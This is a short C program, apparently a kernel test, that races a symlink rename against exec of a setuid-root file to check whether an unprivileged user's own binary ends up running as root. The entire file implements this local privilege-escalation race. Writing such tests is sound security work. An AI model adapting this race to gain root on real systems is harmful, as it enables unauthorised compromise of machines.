/* swapped: executes a link to a setuid file of root's, which leads to a program of its own by the
 * time that the kernel opens it. Each file's directory has to be read from the disk first. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define NAMES 20
#define USER  1000

enum { AS_ROOT = 42, AS_USER, NOT_AT_ALL };

static void
fill (const char *path, unsigned blocks, mode_t mode)
{
    char block[4096] = "no program";
    int fd           = open (path, O_CREAT | O_RDWR, 0600);

    for (unsigned i = 0; i < blocks; i++)
        if (write (fd, block, sizeof block) != sizeof block)
            abort ();
    if (fchmod (fd, mode) != 0 || close (fd) != 0)
        abort ();
}

/* Many names of the one file; afterwards the cache holds other things. */
static void
prepare (void)
{
    char path[32];

    fill ("/rights", 1, 04755);
    for (int i = 0; i < NAMES; i++) {
        snprintf (path, sizeof path, "/name%d", i);
        mkdir (path, 0755);
        snprintf (path, sizeof path, "/name%d/s", i);
        if (link ("/rights", path) != 0)
            abort ();
    }
    fill ("/other", 500, 0600);
    mkdir ("/tmp/own", 0777);
    if (chown ("/tmp/own", USER, USER) != 0 || chdir ("/tmp/own") != 0)
        abort ();
}

static int
attempt (int i, const char *self)
{
    char path[32], c;
    int p[2], status;
    pid_t child;

    snprintf (path, sizeof path, "/name%d/s", i);
    unlink ("link");
    if (pipe (p) != 0 || symlink (path, "link") != 0 || symlink (self, "next") != 0)
        abort ();
    child = fork ();
    if (child == 0) {
        if (write (p[1], "x", 1) == 1)
            execl ("/tmp/own/link", "link", "x", NULL);
        _exit (NOT_AT_ALL);
    }
    if (read (p[0], &c, 1) != 1 || rename ("next", "link") != 0 || waitpid (child, &status, 0) != child)
        abort ();
    close (p[0]);
    close (p[1]);
    return WEXITSTATUS (status);
}

int
main (int argc, char **argv)
{
    int count[NOT_AT_ALL + 1] = { 0 };

    if (argc > 1)
        return geteuid () == 0 ? AS_ROOT : AS_USER;
    prepare ();
    if (setgid (USER) != 0 || setuid (USER) != 0)
        abort ();
    for (int i = 0; i < NAMES; i++)
        count[attempt (i, argv[0])]++;
    printf ("as root %d, %s\n", count[AS_ROOT],
            count[AS_USER] > 0 ? "and some were swapped" : "but none was swapped");
    return 0;
}
